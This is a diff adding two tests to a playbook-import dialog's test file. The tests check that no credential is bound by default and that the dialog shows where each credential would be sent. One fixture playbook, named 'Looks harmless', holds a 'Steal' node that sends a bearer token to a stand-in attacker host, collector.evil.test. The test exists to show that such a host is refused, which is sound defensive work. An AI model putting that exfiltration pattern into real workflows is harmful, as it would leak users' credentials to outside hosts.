@@ -93,6 +93,75 @@ describe('import', () => {
     expect(screen.queryByRole('dialog')).toBeNull();
   });
 
+  it('binds nothing the user did not pick: no credential is pre-selected, and saving sends no binding', async () => {
+    const imported: Playbook = { ...samplePlaybook(), id: 'shared-triage', name: 'Shared triage' };
+    host = fakeHost({
+      'playbooks.import': () => ({ playbook: imported, problems: [], slots: [{ slot: 'virustotal', connector: 'virustotal', credentialId: null }] }),
+      'credentials.list': () => ({ credentials: [credential] }),
+      'playbooks.save': ({ playbook }) => {
+        saved = playbook as Playbook;
+        return { playbook: { ...(playbook as Playbook), revision: 1 }, problems: [] };
+      },
+      'playbooks.list': () => ({ playbooks: [] }),
+      'playbooks.get': () => ({ playbook: { ...(saved as Playbook), revision: 1 }, problems: [], slots: [] }),
+    });
+    useStore.setState({ credentials: [credential] });
+    render(<ShareControls />);
+    pickFile(JSON.stringify(imported));
+    await settle();
+
+    const dialog = screen.getByRole('dialog', { name: 'Import Shared triage' });
+    expect((within(dialog).getByLabelText('Slot virustotal (VirusTotal)') as HTMLSelectElement).value).toBe('');
+    fireEvent.click(within(dialog).getByRole('button', { name: 'Save and open' }));
+    await settle();
+    expect(saved?.id).toBe('shared-triage');
+    expect(host.sent.some((frame) => frame.method === 'playbooks.bind')).toBe(false);
+  });
+
+  it('shows per slot the hosts the playbook sends the credential to, and which the chosen credential refuses', async () => {
+    const http: CredentialView = { id: 'cred-api', name: 'Corp API', connector: 'http', fields: { baseUrl: 'https://api.corp.example', token: { set: true } }, secretFields: ['token'], updatedAt: 1 };
+    const base = samplePlaybook();
+    const imported: Playbook = {
+      ...base,
+      id: 'exfil',
+      name: 'Looks harmless',
+      credentials: { virustotal: { connector: 'virustotal' }, api: { connector: 'http' } },
+      nodes: [
+        ...base.nodes,
+        { id: 'steal', type: 'core.http_get@1', name: 'Steal', params: { url: 'https://collector.evil.test/c', auth: 'bearer' }, credential: 'api' },
+        { id: 'later', type: 'core.http_get@1', name: 'Later', params: { url: '{{ trigger.next }}', auth: 'bearer' }, credential: 'api' },
+        { id: 'users', type: 'core.http_get@1', name: 'Users', params: { url: '/users', auth: 'bearer' }, credential: 'api' },
+      ],
+    };
+    host = fakeHost({
+      'playbooks.import': () => ({
+        playbook: imported,
+        problems: [],
+        slots: [
+          { slot: 'virustotal', connector: 'virustotal', credentialId: null },
+          { slot: 'api', connector: 'http', credentialId: null },
+        ],
+      }),
+      'credentials.list': () => ({ credentials: [credential, http] }),
+    });
+    useStore.setState({ credentials: [credential, http] });
+    render(<ShareControls />);
+    pickFile(JSON.stringify(imported));
+    await settle();
+
+    const dialog = screen.getByRole('dialog', { name: 'Import Looks harmless' });
+    const hosts = (slot: string) => within(within(dialog).getByRole('list', { name: `Where slot ${slot} is sent` })).getAllByRole('listitem').map((item) => item.textContent);
+    expect(hosts('virustotal')).toEqual(['www.virustotal.com']);
+    expect(hosts('api')).toEqual(['collector.evil.test', 'a URL computed at run time (sent only if it is one of the credential’s hosts)', 'the base URL of the credential you pick']);
+
+    fireEvent.change(within(dialog).getByLabelText('Slot api (http)'), { target: { value: 'cred-api' } });
+    expect(hosts('api')).toEqual([
+      'collector.evil.test — refused: not one of this credential’s hosts',
+      'a URL computed at run time (sent only if it is one of the credential’s hosts)',
+      'api.corp.example',
+    ]);
+  });
+
   it('reads a playbook file dropped on the window', async () => {
     host = fakeHost({ 'playbooks.import': ({ fileName }) => ({ problems: [{ severity: 'error', code: 'X', message: `Nothing in ${fileName}.` }], slots: [] }) });
     render(<ShareControls />);
